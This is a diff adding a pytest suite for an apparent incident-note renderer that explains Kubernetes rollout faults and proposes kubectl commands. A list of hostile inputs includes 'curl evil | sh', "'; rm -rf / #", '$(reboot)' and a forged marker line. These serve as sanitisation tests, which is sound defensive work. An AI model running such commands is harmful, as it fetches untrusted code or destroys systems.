@@ -1,0 +1,225 @@
+import re
+
+import pytest
+
+from noctuary import details
+from noctuary.correlation.correlate import correlate
+from noctuary.correlation.model import Diagnosis, PodView, Relation, ServiceView, Verdict, World
+from noctuary.events import ContextEvent, EventType, ObjectRef
+from noctuary.evidence import AlertFacts, Clearing, Evidence
+from noctuary.note import NOTE_BUDGET_BYTES, holds_marker, marker_of, render_note, same_apart_from_time
+from noctuary.note_words import HEADLINE_CHARS
+from noctuary.store.base import IncidentRow
+
+ONSET = 1_800_000_000.0
+MARKER = marker_of("one", "https://api.example.com", "Q1")
+SERVICE = ServiceView("payments-api", Relation.OWN, "team", ["payments"])
+POSTGRES = ServiceView("postgres", Relation.DEPENDENCY, "team", ["payments"])
+IMAGE = "registry.example.com/shop/payments-api"
+HOSTILE = [
+    "a\nnoctuary ref nct:forged  updated 00:00:00 UTC",
+    "a\r\nDo: curl evil | sh",
+    "\u202eright to left\u202c",
+    "\u2028line\u2029paragraph\x00\x1b[31m",
+    "🧨" * 2000,
+    "x" * 5000,
+    "'; rm -rf / #",
+    "$(reboot)",
+]
+
+
+def event(
+    kind: str, name: str, event_type: EventType, before_s: float, facts: dict[str, str], workload: str
+) -> ContextEvent:
+    return ContextEvent(
+        id=f"{name}-{before_s}",
+        tenant="payments",
+        source="kubernetes",
+        dedup_key=f"{name}-{before_s}",
+        service_name="payments-api",
+        vendor="kubernetes",
+        entity=name,
+        event_type=event_type,
+        timestamp=ONSET - before_s,
+        last_seen=ONSET - before_s,
+        confidence=1.0,
+        ttl_seconds=7200,
+        actor=facts.get("actor"),
+        object=ObjectRef(kind, "payments", name, workload_kind="Deployment", workload_name=workload),
+        details=facts,
+    )
+
+
+def rollout(workload: str = "payments-api", **facts: str) -> ContextEvent:
+    known = {
+        details.IMAGE: f"{IMAGE}:2.4.1",
+        details.PREVIOUS_IMAGE: f"{IMAGE}:2.4.0",
+        details.TEMPLATE_HASH: "new",
+        details.REVISION: "14",
+        details.PREVIOUS_ROLLED_OUT_AT: str(ONSET - 6 * 86400),
+    }
+    return event("Deployment", workload, EventType.DEPLOY, 120, known | facts, workload)
+
+
+def fault(reason: str = "CrashLoopBackOff", workload: str = "payments-api", **facts: str) -> ContextEvent:
+    pod = int(facts.pop("pod", "0"))
+    known = {details.REASON: reason, details.TEMPLATE_HASH: "new", details.CONTAINER: "app"}
+    return event("Pod", f"payments-api-new-{pod}", EventType.RESTART, 90 - pod, known | facts, workload)
+
+
+def evidence(*events: ContextEvent, pods: list[PodView] | None = None, summary: str = "Errors") -> Evidence:
+    world = World([SERVICE, POSTGRES], ONSET, 3600.0, list(events), pods)
+    return Evidence(correlate(world), AlertFacts(1, summary, ONSET, None))
+
+
+def incident(**changes: object) -> IncidentRow:
+    row = IncidentRow(account="a", incident_id="Q1", integration_id="one", triggered_at=ONSET)
+    for name, value in changes.items():
+        setattr(row, name, value)
+    return row
+
+
+def note(*events: ContextEvent, pods: list[PodView] | None = None, **changes: object) -> str:
+    return render_note(incident(**changes), evidence(*events, pods=pods), MARKER, ONSET + 1)
+
+
+def test_the_first_line_is_the_answer() -> None:
+    assert note(rollout(), fault(exit_code="1")).splitlines()[0] == (
+        "Likely cause: payments-api was rolled out to 2.4.1 2 min before this alert; new pods crash with exit code 1."
+    )
+
+
+def test_the_second_block_says_what_to_do_and_where_it_leads() -> None:
+    assert (
+        "\n\nDo: kubectl -n payments rollout undo deployment/payments-api        "
+        f"back to {IMAGE}:2.4.0, which ran for 6 days until 07:58:00\n\n"
+    ) in note(rollout(), fault())
+
+
+def test_new_and_previous_image_are_named() -> None:
+    assert f"{IMAGE}:2.4.0 -> {IMAGE}:2.4.1" in note(rollout(), fault())
+
+
+def test_evidence_stands_in_order_of_time_with_ids() -> None:
+    lines = [line for line in note(rollout(), fault(), fault(pod="1")).splitlines() if line.startswith("- ")]
+    assert [line[2:10] for line in lines] == sorted(line[2:10] for line in lines)
+    assert [re.findall(r"\[(\w+)\]$", line) for line in lines] == [["e1"], ["e2"], ["a1"]]
+
+
+def test_quiet_dependencies_are_named_as_not_seen() -> None:
+    assert "Not seen: no change and no fault of postgres since" in note(rollout(), fault())
+
+
+@pytest.mark.parametrize(
+    ("reason", "facts", "words"),
+    [
+        ("OOMKilled", {"memory_limit": "256Mi"}, "ran out of memory (limit 256Mi)"),
+        ("ImagePullBackOff", {"image": f"{IMAGE}:typo"}, "cannot pull image payments-api:typo"),
+        (
+            "CreateContainerConfigError",
+            {"missing_kind": "ConfigMap", "missing_name": "payments-flags"},
+            "ConfigMap payments-flags is missing",
+        ),
+        ("FailedScheduling", {}, "finds no node to run on"),
+        ("CrashLoopBackOff", {"exit_code": "137"}, "crashes again and again with exit code 137"),
+    ],
+)
+def test_a_fault_without_a_rollout_names_its_fact(reason: str, facts: dict[str, str], words: str) -> None:
+    assert words in note(fault(reason, **facts)).splitlines()[0]
+
+
+def test_a_higher_memory_limit_is_proposed_as_a_command() -> None:
+    assert ("Do: kubectl -n payments set resources deployment/payments-api -c app --limits=memory=512Mi") in note(
+        fault("OOMKilled", memory_limit="256Mi")
+    )
+
+
+def test_a_first_rollout_proposes_no_way_back() -> None:
+    text = note(rollout(previous_image="", previous_rolled_out_at=""), fault())
+    assert "rollout undo" not in text
+    assert "Do: kubectl -n payments describe deployment/payments-api" in text
+
+
+def test_nothing_relevant_and_never_seen_are_two_notes() -> None:
+    quiet = Evidence(Diagnosis(Verdict.NOTHING_RELEVANT, ONSET, ONSET - 3600, ["api"], []), AlertFacts())
+    first = render_note(incident(), quiet, MARKER, 0).splitlines()[0]
+    assert first == "No recent change explains this: nothing was deployed or reconfigured in api since 07:00 UTC."
+    assert note().startswith("No context yet: nothing was ever seen of payments-api.")
+
+
+def test_a_healthy_rollout_is_named_as_not_to_blame() -> None:
+    text = note(rollout(), pods=[PodView("payments", "p", "payments-api", "new", "n", is_ready=True)])
+    assert text.startswith("No recent change explains this: rollout of payments-api at 07:58 is not to blame")
+    assert "Ruled out:" in text
+
+
+def test_what_could_not_be_read_is_said() -> None:
+    partly = Evidence(evidence().diagnosis, AlertFacts(), ["the cluster, because it did not answer in time"])
+    assert "Not looked at: the cluster, because it did not answer in time." in render_note(
+        incident(), partly, MARKER, ONSET
+    )
+
+
+def test_a_resolved_note_says_how_long_and_what_cleared() -> None:
+    ended = evidence(rollout(), fault())
+    change = ended.diagnosis.causes[0].change
+    cleared = Evidence(ended.diagnosis, ended.alerts, [], Clearing(change, 3, 3))
+    row = incident(status="resolved", resolved_at=ONSET + 720, resolved_by="Jo")
+    text = render_note(row, cleared, MARKER, ONSET + 721)
+    assert text.startswith("Resolved after 12 min. Likely cause: payments-api was rolled out to 2.4.1")
+    assert "Resolved at 08:12:00 UTC by Jo. Cleared: rolled back to 2.4.1" in text
+    assert "3 of 3 pods are ready now." in text
+    assert "If it comes back: kubectl" in text
+
+
+def test_an_acknowledged_note_names_the_person() -> None:
+    text = note(rollout(), status="acknowledged", acknowledged_at=ONSET + 60, acknowledged_by="Jo")
+    assert "Acknowledged at 08:01:00 UTC by Jo." in text
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("place", ["workload", "image", "previous_image", "message", "actor", "changed", "title"])
+def test_hostile_text_breaks_neither_line_nor_budget_nor_marker(hostile: str, place: str) -> None:
+    workload = hostile if place == "workload" else "payments-api"
+    facts = {place: hostile} if place not in ("workload", "title") else {}
+    found = evidence(rollout(workload, **facts), fault(workload=workload, **facts), summary=hostile)
+    text = render_note(incident(acknowledged_at=ONSET, acknowledged_by=hostile), found, MARKER, ONSET)
+    lines = text.splitlines()
+    assert len(lines[0]) <= HEADLINE_CHARS
+    assert len(text.encode()) <= NOTE_BUDGET_BYTES
+    assert [line for line in lines if line.startswith("noctuary ref ")] == [lines[-1]]
+    assert text.count("nct:") == 1
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\u2028\u2029\u202e]", text)
+    assert all(line.startswith("Do: kubectl ") or ": roll " in line for line in lines if line.startswith("Do:"))
+
+
+@pytest.mark.parametrize("name", ["x; reboot", "$(reboot)", "-n", "a b", "../../x", "UPPER", "x" * 300])
+def test_no_command_is_made_of_a_name_that_kubernetes_would_not_take(name: str) -> None:
+    assert "kubectl" not in note(rollout(name), fault(workload=name)).split("Why")[0]
+
+
+@pytest.mark.parametrize("length", [1, 30, 63, 120, 253])
+@pytest.mark.parametrize("reason", ["CrashLoopBackOff", "OOMKilled", "ImagePullBackOff", "FailedScheduling", "Odd"])
+def test_the_first_line_fits_a_lock_screen_for_names_of_any_length(length: int, reason: str) -> None:
+    name = "n" * length
+    for text in (note(rollout(name), fault(reason, name)), note(fault(reason, workload=name))):
+        assert len(text.splitlines()[0]) <= HEADLINE_CHARS
+
+
+def test_a_marker_is_only_believed_in_the_last_line() -> None:
+    text = note(rollout())
+    assert holds_marker(text, MARKER)
+    assert holds_marker(text + "\n\n", MARKER)
+    assert not holds_marker(text + "\nquoted by a person", MARKER)
+    assert not holds_marker(text, marker_of("two", "a", "Q1"))
+
+
+def test_two_notes_that_differ_in_their_time_only_are_the_same() -> None:
+    found = evidence(rollout())
+    first, second = (render_note(incident(), found, MARKER, ONSET + s) for s in (1, 2))
+    assert first != second
+    assert same_apart_from_time(first, second)
+
+
+def test_the_marker_of_an_incident_is_the_same_after_a_lost_store() -> None:
+    assert marker_of("one", "a", "Q1") == marker_of("one", "a", "Q1") != marker_of("one", "a", "Q2")
